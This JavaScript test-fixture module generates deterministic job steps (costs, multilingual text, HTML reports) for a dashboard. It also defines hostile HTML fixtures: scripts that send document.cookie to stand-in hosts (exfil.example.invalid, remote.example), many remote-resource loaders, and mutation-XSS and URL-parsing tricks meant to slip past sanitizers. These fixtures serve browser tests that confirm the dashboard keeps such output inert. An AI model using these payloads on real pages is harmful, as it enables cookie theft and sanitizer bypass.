// Deterministic execution-step generator for the demo jobs.
// Costs are generated as exact integers of micro-dollars and only then rendered as a JSON
// number or as one of the string shapes the real worker produced, so the expected totals
// are known exactly without parsing anything back.
import { createRandom } from './random.js';

const MICRO_PER_USD = 1_000_000n;

// Already HTML-escaped; mixes BMP scripts, right-to-left text and astral-plane emoji.
const SENTENCES = [
  'Zürich café: naïve façade, déjà vu — “quoted” text… ½ ¾ ©.',
  'Ελληνικά: Η γρήγορη καφέ αλεπού πηδάει πάνω από τον τεμπέλη σκύλο.',
  'Русский: Съешь же ещё этих мягких французских булок, да выпей чаю.',
  '日本語: いろはにほへと ちりぬるを。東京の天気は晴れです。',
  '中文：敏捷的棕色狐狸跳过了懒狗。数据已成功生成。',
  'العربية: هذا نص تجريبي لاختبار الاتجاه من اليمين إلى اليسار.',
  'עברית: זהו טקסט לדוגמה לבדיקת כיווניות.',
  'हिन्दी: यह एक परीक्षण वाक्य है जो यूनिकोड की जाँच करता है।',
  'Emoji: 🚀 ✅ 📊 🧪 🇨🇭 — astral-plane characters such as U+1F680.',
  'Symbols &amp; entities: &lt;tag&gt; “curly” ‘single’ € £ ¥ ™ ® °C ±.',
  'Plain ASCII: the quick brown fox jumps over the lazy dog 0123456789.',
  'Tiếng Việt: Chữ Quốc ngữ có nhiều dấu thanh điệu khác nhau.',
];
const SENTENCE_BYTES = SENTENCES.map((s) => Buffer.byteLength(s));

const TEXT_STEP_NAMES = ['fetch-sources', 'extract-entities', 'summarize', 'plan-layout', 'review'];
const MODELS = ['gpt-4o', 'gpt-4o-mini', 'claude-sonnet-4', 'claude-haiku-4'];
const INVALID_COSTS = ['abc', 'NaN', '1.2.3', '0x10', 'Infinity', '', true, '12,34'];

/**
 * A script that must stay inert in the dashboard: it tries to reach the parent page and an
 * outside host. The browser tests check that neither happens.
 */
export const PROBE_SCRIPT =
  '<script>try{parent.document.title="pwned"}catch(e){}' +
  'try{fetch("https://exfil.example.invalid/steal?c="+document.cookie)}catch(e){}' +
  'try{new Image().src="https://exfil.example.invalid/pixel"}catch(e){}</script>';

/** @param {bigint} micro */
export function formatMicroUsd(micro) {
  const negative = micro < 0n;
  const abs = negative ? -micro : micro;
  const whole = abs / MICRO_PER_USD;
  const fraction = (abs % MICRO_PER_USD).toString().padStart(6, '0').replace(/0+$/, '');
  return (negative ? '-' : '') + whole.toString() + (fraction ? '.' + fraction : '');
}

/** @param {bigint} cents */
function formatThousands(cents) {
  const whole = (cents / 100n).toString().replace(/\B(?=(\d{3})+(?!\d))/g, ',');
  return `${whole}.${(cents % 100n).toString().padStart(2, '0')}`;
}

/**
 * @typedef {'mixed' | 'numbers'} CostMix
 * @typedef {{value: unknown, present: boolean, micro: bigint | null, kind: 'valid' | 'none' | 'invalid'}} Cost
 */

/**
 * @param {ReturnType<typeof createRandom>} rand
 * @param {CostMix} mix
 * @returns {Cost}
 */
function makeCost(rand, mix) {
  const micro = BigInt(rand.int(50, 60_000));
  if (mix === 'numbers') return { value: Number(micro) / 1e6, present: true, micro, kind: 'valid' };
  const roll = rand.next();
  if (roll < 0.5) return { value: Number(micro) / 1e6, present: true, micro, kind: 'valid' };
  if (roll < 0.68) return { value: formatMicroUsd(micro), present: true, micro, kind: 'valid' };
  if (roll < 0.765) return { value: ` $${formatMicroUsd(micro)} `, present: true, micro, kind: 'valid' };
  if (roll < 0.768) {
    const cents = BigInt(rand.int(100_000, 299_999));
    return { value: formatThousands(cents), present: true, micro: cents * 10_000n, kind: 'valid' };
  }
  if (roll < 0.95) return { value: null, present: true, micro: null, kind: 'none' };
  if (roll < 0.985) return { value: undefined, present: false, micro: null, kind: 'none' };
  return { value: rand.pick(INVALID_COSTS), present: true, micro: null, kind: 'invalid' };
}

/**
 * A full HTML page of at least `targetBytes` UTF-8 bytes.
 * @param {{title: string, targetBytes: number, rand: ReturnType<typeof createRandom>, probe: boolean}} options
 */
export function generateHtmlPage({ title, targetBytes, rand, probe }) {
  const head =
    '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">' +
    `<title>${title}</title><style>body{font-family:system-ui,sans-serif;margin:2rem;line-height:1.5}` +
    'table{border-collapse:collapse}td,th{border:1px solid #ccc;padding:.25rem .5rem}</style></head>' +
    `<body><h1>${title}</h1>` +
    (probe ? PROBE_SCRIPT : '');
  const tail = '</body></html>\n';
  const parts = [head];
  let bytes = Buffer.byteLength(head) + Buffer.byteLength(tail);
  let section = 0;
  while (bytes < targetBytes) {
    section += 1;
    const heading = `<h2>Section ${section}</h2><p>`;
    parts.push(heading);
    bytes += heading.length;
    for (let i = 0; i < 6; i += 1) {
      const index = rand.int(0, SENTENCES.length - 1);
      parts.push(SENTENCES[index], ' ');
      bytes += SENTENCE_BYTES[index] + 1;
    }
    const row = `</p><table><tr><th>metric</th><th>value</th></tr><tr><td>score</td><td>${rand.int(0, 999)}</td></tr></table>`;
    parts.push(row);
    bytes += row.length;
  }
  parts.push(tail);
  return parts.join('');
}

/** @param {ReturnType<typeof createRandom>} rand @param {number} targetBytes */
function generateText(rand, targetBytes) {
  const parts = [];
  let bytes = 0;
  while (bytes < targetBytes) {
    const index = rand.int(0, SENTENCES.length - 1);
    parts.push(SENTENCES[index]);
    bytes += SENTENCE_BYTES[index] + 1;
  }
  return parts.join('\n');
}

/**
 * @typedef {object} StepOptions
 * @property {string} jobId
 * @property {number} seed
 * @property {number} count
 * @property {number} startTimeMs  time of the first step's start (ms since epoch)
 * @property {number} [firstStepNumber]  1 unless continuing an existing list
 * @property {number} [htmlEvery]  every n-th step is an html-generation step (0: none)
 * @property {number} [htmlBytes]  size of each HTML page
 * @property {number} [textBytes]  size of each text output
 * @property {CostMix} [costMix]
 * @property {number[]} [probeSteps]  step numbers whose HTML carries the inert probe script
 */

/**
 * @typedef {object} StepSummary
 * @property {number} count
 * @property {string} total_cost_usd  exact sum of valid costs, canonical decimal
 * @property {number} no_cost  steps whose cost_usd is null or missing
 * @property {number} invalid_cost  steps whose cost_usd cannot be read as money
 */

/**
 * Generates completed steps. Same options, same steps, byte for byte.
 * @param {StepOptions} options
 * @returns {{steps: Record<string, unknown>[], micro: bigint, noCost: number, invalidCost: number, endTimeMs: number}}
 */
export function generateSteps(options) {
  const {
    jobId,
    seed,
    count,
    startTimeMs,
    firstStepNumber = 1,
    htmlEvery = 10,
    htmlBytes = 50_000,
    textBytes = 1_000,
    costMix = 'mixed',
    probeSteps = [],
  } = options;
  const rand = createRandom(seed);
  const steps = [];
  let micro = 0n;
  let noCost = 0;
  let invalidCost = 0;
  let clock = startTimeMs;
  for (let i = 0; i < count; i += 1) {
    const stepNumber = firstStepNumber + i;
    const isHtml = htmlEvery > 0 && stepNumber % htmlEvery === 0;
    const duration = isHtml ? rand.int(4_000, 40_000) : rand.int(150, 9_000);
    const started = clock + rand.int(5, 400);
    const completed = started + duration;
    clock = completed;
    const cost = makeCost(rand, costMix);
    if (cost.kind === 'valid' && cost.micro !== null) micro += cost.micro;
    else if (cost.kind === 'none') noCost += 1;
    else invalidCost += 1;
    const output = isHtml
      ? generateHtmlPage({
          title: `${jobId} · step ${stepNumber} report`,
          targetBytes: htmlBytes,
          rand,
          probe: probeSteps.includes(stepNumber),
        })
      : generateText(rand, textBytes);
    /** @type {Record<string, unknown>} */
    const step = {
      step_number: stepNumber,
      step_name: isHtml ? 'html-generation' : TEXT_STEP_NAMES[stepNumber % TEXT_STEP_NAMES.length],
      status: 'completed',
      started_at: new Date(started).toISOString(),
      completed_at: new Date(completed).toISOString(),
      duration_ms: duration,
      model: MODELS[rand.int(0, MODELS.length - 1)],
      input_tokens: rand.int(200, 120_000),
      output_tokens: rand.int(20, 16_000),
    };
    if (cost.present) step.cost_usd = cost.value;
    step.output = output;
    step.output_type = isHtml ? 'html' : 'text';
    steps.push(step);
  }
  return { steps, micro, noCost, invalidCost, endTimeMs: clock };
}

/**
 * @param {{micro: bigint, noCost: number, invalidCost: number}} parts
 * @param {number} count
 * @returns {StepSummary}
 */
export function summarize(parts, count) {
  return {
    count,
    total_cost_usd: formatMicroUsd(parts.micro),
    no_cost: parts.noCost,
    invalid_cost: parts.invalidCost,
  };
}

/**
 * Cuts a string to `limit` characters the way the legacy Python worker did (`s[:5000]`
 * counts code points, not UTF-16 units).
 * @param {string} text
 * @param {number} limit
 */
export function truncateCodePoints(text, limit) {
  let units = 0;
  let points = 0;
  while (units < text.length && points < limit) {
    const code = text.codePointAt(units) ?? 0;
    units += code > 0xffff ? 2 : 1;
    points += 1;
  }
  return text.slice(0, units);
}

/** The reserved domain every remote reference of the hostile outputs points at (RFC 2606: never a real host). */
export const REMOTE_TEST_DOMAIN = 'remote.example';

/** A 1×1 GIF as a data: URL (local: allowed in every mode). */
const DATA_GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/**
 * An LLM-written page that reaches for the network every way HTML can: remote images (src,
 * srcset, <picture>, CSS url() and imports, fonts, body background, SVG <image>), preconnect,
 * dns-prefetch, prefetch and preload links, nested frames, <object>, <embed>, media, <base>,
 * meta refresh, a form, SVG <use> and SMIL, <noscript>, a declarative shadow root, a link with
 * ping, scripts and event handlers. The dashboard must show it without any request leaving the
 * browser, and load only its https images, styles and fonts once the user asks.
 */
export const HOSTILE_HTML = `<!DOCTYPE html>
<html lang="en"><head>
<base href="https://base.${REMOTE_TEST_DOMAIN}/">
<meta http-equiv="refresh" content="0;url=https://refresh.${REMOTE_TEST_DOMAIN}/">
<link rel="preconnect" href="https://preconnect.${REMOTE_TEST_DOMAIN}">
<link rel="dns-prefetch" href="//dns-prefetch.${REMOTE_TEST_DOMAIN}">
<link rel="prefetch" href="https://prefetch.${REMOTE_TEST_DOMAIN}/next.html">
<link rel="preload" as="image" href="https://preload.${REMOTE_TEST_DOMAIN}/hero.png">
<link rel="icon" href="https://icon.${REMOTE_TEST_DOMAIN}/favicon.ico">
<link rel="stylesheet" href="https://sheet.${REMOTE_TEST_DOMAIN}/site.css">
<style>
@import url("https://import.${REMOTE_TEST_DOMAIN}/more.css");
@font-face { font-family: Remote; src: url(https://font.${REMOTE_TEST_DOMAIN}/remote.woff2) format("woff2"); }
body { font-family: Remote, system-ui, sans-serif; margin: 1rem; }
.banner { background-image: url(https://css-image.${REMOTE_TEST_DOMAIN}/banner.png); min-height: 20px; }
</style>
<title>Hostile output</title>
</head>
<body background="https://body-background.${REMOTE_TEST_DOMAIN}/bg.png">
<h1>Report with remote content</h1>
<p class="banner">A banner with a CSS background image.</p>
<p>
<img id="pixel" alt="pixel" src="https://image.${REMOTE_TEST_DOMAIN}/pixel.png" width="20" height="20">
<img id="responsive" alt="responsive" srcset="https://srcset.${REMOTE_TEST_DOMAIN}/small.png 1x, https://srcset.${REMOTE_TEST_DOMAIN}/large.png 2x" width="20" height="20">
<picture><source srcset="https://picture.${REMOTE_TEST_DOMAIN}/wide.png"><img id="picture" alt="picture" src="${DATA_GIF}" width="20" height="20"></picture>
<img id="insecure" alt="insecure" src="http://insecure.${REMOTE_TEST_DOMAIN}/plain.png" width="20" height="20">
<img id="relative" alt="relative" src="relative.png" width="20" height="20">
<img id="inline" alt="inline" src="${DATA_GIF}" width="20" height="20">
</p>
<div style="background: url('https://inline-style.${REMOTE_TEST_DOMAIN}/tile.png'); height: 10px"></div>
<iframe src="https://frame.${REMOTE_TEST_DOMAIN}/"></iframe>
<iframe srcdoc="<img src='https://srcdoc.${REMOTE_TEST_DOMAIN}/x.png'>"></iframe>
<object data="https://object.${REMOTE_TEST_DOMAIN}/movie.swf"></object>
<embed src="https://embed.${REMOTE_TEST_DOMAIN}/plugin">
<video poster="https://poster.${REMOTE_TEST_DOMAIN}/poster.png" src="https://video.${REMOTE_TEST_DOMAIN}/clip.mp4"></video>
<audio src="https://audio.${REMOTE_TEST_DOMAIN}/a.mp3" autoplay></audio>
<form action="https://form.${REMOTE_TEST_DOMAIN}/collect" method="post"><input name="q" value="secret"><input type="image" alt="go" src="https://input-image.${REMOTE_TEST_DOMAIN}/go.png"><button id="send">Send</button></form>
<svg width="80" height="20" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<image href="https://svg-image.${REMOTE_TEST_DOMAIN}/i.png" width="10" height="10"/>
<image xlink:href="https://svg-xlink.${REMOTE_TEST_DOMAIN}/i.png" x="10" width="10" height="10"/>
<use href="https://svg-use.${REMOTE_TEST_DOMAIN}/sprite.svg#icon"/>
<a href="https://svg-link.${REMOTE_TEST_DOMAIN}/"><text x="25" y="15">svg link</text></a>
<rect x="70" width="5" height="5"><set attributeName="fill" to="url(https://svg-set.${REMOTE_TEST_DOMAIN}/p.svg#p)"/></rect>
</svg>
<noscript><img src="https://noscript.${REMOTE_TEST_DOMAIN}/n.png"></noscript>
<div><template shadowrootmode="open"><img src="https://shadow.${REMOTE_TEST_DOMAIN}/s.png"></template></div>
<p><a id="remote-link" href="https://link.${REMOTE_TEST_DOMAIN}/report?id=42&amp;from=output" ping="https://ping.${REMOTE_TEST_DOMAIN}/">Open the full report</a>
· <a id="fragment-link" href="#details">Details below</a></p>
<script>fetch('https://script.${REMOTE_TEST_DOMAIN}/steal?c=' + document.cookie)</script>
<img src="x" alt="" onerror="fetch('https://onerror.${REMOTE_TEST_DOMAIN}/')">
<h2 id="details" style="margin-top: 600px">Details</h2><p>End of the report.</p>
</body></html>
`;

/** A second hostile page with remote images of its own (loading one output's content must not load another's). */
export const OTHER_HOSTILE_HTML = `<!DOCTYPE html>
<html lang="en"><head><title>Another output</title>
<style>.tile { background: url(https://other-css.${REMOTE_TEST_DOMAIN}/bg.png); min-height: 20px; }</style>
</head><body><h1>Another report</h1>
<p class="tile"><img id="other" alt="other" src="https://other-image.${REMOTE_TEST_DOMAIN}/o.png" width="20" height="20"></p>
</body></html>
`;

/**
 * Markup that parses one way in an inert document and another once framed, and addresses in the
 * forms URL parsers forgive (upper case, leading space, backslashes, no scheme, data: documents).
 */
export const PARSER_TRICKS_HTML = `<!DOCTYPE html>
<html lang="en"><head><title>Parser tricks</title></head><body>
<h1>Markup that parses differently twice</h1>
<svg><style><img src="https://mxss-svg-style.${REMOTE_TEST_DOMAIN}/a.png"></style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src="https://mxss-mglyph.${REMOTE_TEST_DOMAIN}/b.png"></style></form>
<noscript><p title="</noscript><img src='https://mxss-noscript.${REMOTE_TEST_DOMAIN}/c.png'>"></p></noscript>
<math><mi><a href="https://math-link.${REMOTE_TEST_DOMAIN}/">math link</a></mi></math>
<img alt="caps" src=" HTTPS://caps.${REMOTE_TEST_DOMAIN}/d.png">
<img alt="backslash" src="\\\\backslash.${REMOTE_TEST_DOMAIN}/e.png">
<img alt="no scheme" src="//protocol-relative.${REMOTE_TEST_DOMAIN}/f.png">
<img alt="srcset" srcset="https://srcset-first.${REMOTE_TEST_DOMAIN}/x.png 1x,http://srcset-nospace.${REMOTE_TEST_DOMAIN}/y.png 2x">
<p><a id="js-link" href="javascript:parent.postMessage({jobdashLink:'https://spoof.${REMOTE_TEST_DOMAIN}/'},'*')">javascript link</a></p>
<div style="background-image: image-set('https://image-set.${REMOTE_TEST_DOMAIN}/g.png' 1x); height: 10px">image-set</div>
<iframe src="data:text/html,<img src=https://data-frame.${REMOTE_TEST_DOMAIN}/h.png>"></iframe>
<object type="text/html" data="data:text/html,<img src=https://data-object.${REMOTE_TEST_DOMAIN}/i.png>"></object>
</body></html>
`;

/**
 * The hostile job's steps: the three pages above (costs 0.0042, 0.0017 and 0.0009, exact).
 * @param {number} startTimeMs
 */
export function hostileSteps(startTimeMs) {
  const pages = [
    { html: HOSTILE_HTML, micro: 4200n },
    { html: OTHER_HOSTILE_HTML, micro: 1700n },
    { html: PARSER_TRICKS_HTML, micro: 900n },
  ];
  const steps = pages.map(({ html, micro }, index) => ({
    step_number: index + 1,
    step_name: 'html-generation',
    status: 'completed',
    started_at: new Date(startTimeMs + index * 60_000).toISOString(),
    completed_at: new Date(startTimeMs + index * 60_000 + 30_000).toISOString(),
    duration_ms: 30_000,
    model: 'gpt-4o',
    input_tokens: 1200,
    output_tokens: 900,
    cost_usd: Number(micro) / 1e6,
    output: html,
    output_type: 'html',
  }));
  return { steps, micro: pages.reduce((sum, page) => sum + page.micro, 0n), noCost: 0, invalidCost: 0 };
}
